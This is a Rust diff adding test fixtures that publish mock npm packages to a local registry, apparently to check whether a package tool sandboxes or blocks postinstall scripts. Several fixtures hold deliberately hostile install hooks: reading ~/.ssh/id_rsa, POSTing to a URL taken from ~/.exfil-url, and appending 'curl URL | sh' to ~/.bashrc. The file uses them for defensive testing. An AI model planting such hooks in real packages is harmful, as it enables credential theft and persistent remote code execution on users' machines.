@@ -552,3 +552,115 @@ pub fn test_tls() -> (std::sync::Arc<rustls::ServerConfig>, String) {
 pub fn auth_netrc() -> String {
     format!("machine 127.0.0.1 login {INDEX_USER} password {INDEX_SECRET}\n")
 }
+
+/// The packages `tests/scripts_dlx.rs` and `tests/scripts_pnpm_dlx_prepare.rs`
+/// run with `pnpm dlx` (published once per test binary): `pw-dlx-cli`,
+/// whose bin needs what its dependency `pw-dlx-native`'s postinstall
+/// builds, with a malicious `pw-dlx-sneak` and an `esbuild`;
+/// `pw-dlx-failcli` (its dependency's approved build fails);
+/// `pw-dlx-boxcli` (its dependency builds inside its own directory).
+pub fn pnpm_dlx_fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        // What the tool needs built; it also tries what it must not.
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-native", "1.0.0")
+                .script("postinstall", "node build.js")
+                .file(
+                    "build.js",
+                    format!(
+                        "{}const os = require('os');\n\
+                         let seen = 'key:';\n\
+                         try {{ seen += fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{ seen += 'unreadable'; }}\n\
+                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'native\\n'); seen += ' bashrc:written'; }} catch (e) {{ seen += ' bashrc:refused'; }}\n\
+                         fs.appendFileSync(path.join(dir, 'dlx-native'), seen + '\\n');\n\
+                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'native\\n');\n",
+                        js_marker("dlx-native-ran")
+                    ),
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-sneak", "1.0.0")
+                .script("postinstall", "node sneak.js")
+                .file(
+                    "sneak.js",
+                    format!(
+                        "{}const os = require('os'), http = require('http');\n\
+                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
+                         const req = http.request(url + '/key', {{ method: 'POST' }}, () => {{}});\n\
+                         req.on('error', () => {{}}); req.end('x');\n\
+                         fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl ' + url + ' | sh\\n');\n",
+                        js_marker("dlx-sneak")
+                    ),
+                ),
+        );
+        // A name on bun's default trusted-dependencies list.
+        r.publish_npm(
+            &NpmPackage::new("esbuild", "0.99.0")
+                .script("postinstall", "node x.js")
+                .file("x.js", js_marker("dlx-esbuild")),
+        );
+        // An approved build that fails.
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-fails", "1.0.0")
+                .script("postinstall", "node -e \"process.exit(7)\""),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-failcli", "1.0.0")
+                .dep("pw-dlx-fails", "^1.0.0")
+                .field("bin", serde_json::json!({"pw-dlx-failcli": "cli.js"}))
+                .executable("cli.js", "#!/usr/bin/env node\nconsole.log('command ran');\n"),
+        );
+        // A dependency no `allow` entry names, built under `default =
+        // "sandbox"` / audit mode: it writes inside its own directory, tries
+        // a write outside and a loopback connection, and succeeds anyway.
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-boxed", "1.0.0")
+                .script("postinstall", "node boxed.js")
+                .file(
+                    "boxed.js",
+                    format!(
+                        "{}const os = require('os'), http = require('http');\n\
+                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'boxed\\n');\n\
+                         let seen = '';\n\
+                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'boxed\\n'); seen += 'bashrc:written'; }} catch (e) {{ seen += 'bashrc:refused'; }}\n\
+                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
+                         const done = (r) => fs.appendFileSync(path.join(dir, 'dlx-boxed'), seen + ' net:' + r + '\\n');\n\
+                         const req = http.request(url + '/boxed', {{ method: 'POST', timeout: 5000 }}, (res) => {{ res.resume(); done('reached'); }});\n\
+                         req.on('timeout', () => req.destroy(new Error('timeout')));\n\
+                         req.on('error', () => done('refused')); req.end('x');\n",
+                        js_marker("dlx-boxed-ran")
+                    ),
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-boxcli", "1.0.0")
+                .dep("pw-dlx-boxed", "^1.0.0")
+                .field("bin", serde_json::json!({"pw-dlx-boxcli": "cli.js"}))
+                .executable(
+                    "cli.js",
+                    "#!/usr/bin/env node\n\
+                     const fs = require('fs'), path = require('path');\n\
+                     const dir = path.dirname(require.resolve('pw-dlx-boxed/package.json'));\n\
+                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('boxed missing'); process.exit(3); }\n\
+                     console.log('boxed ok');\n",
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-cli", "1.0.0")
+                .dep("pw-dlx-native", "^1.0.0")
+                .dep("pw-dlx-sneak", "^1.0.0")
+                .dep("esbuild", "^0.99.0")
+                .field("bin", serde_json::json!({"pw-dlx-cli": "cli.js"}))
+                .executable(
+                    "cli.js",
+                    "#!/usr/bin/env node\n\
+                     const fs = require('fs'), path = require('path');\n\
+                     const dir = path.dirname(require.resolve('pw-dlx-native/package.json'));\n\
+                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('native missing'); process.exit(3); }\n\
+                     console.log('native ok');\n",
+                ),
+        );
+    });
+}
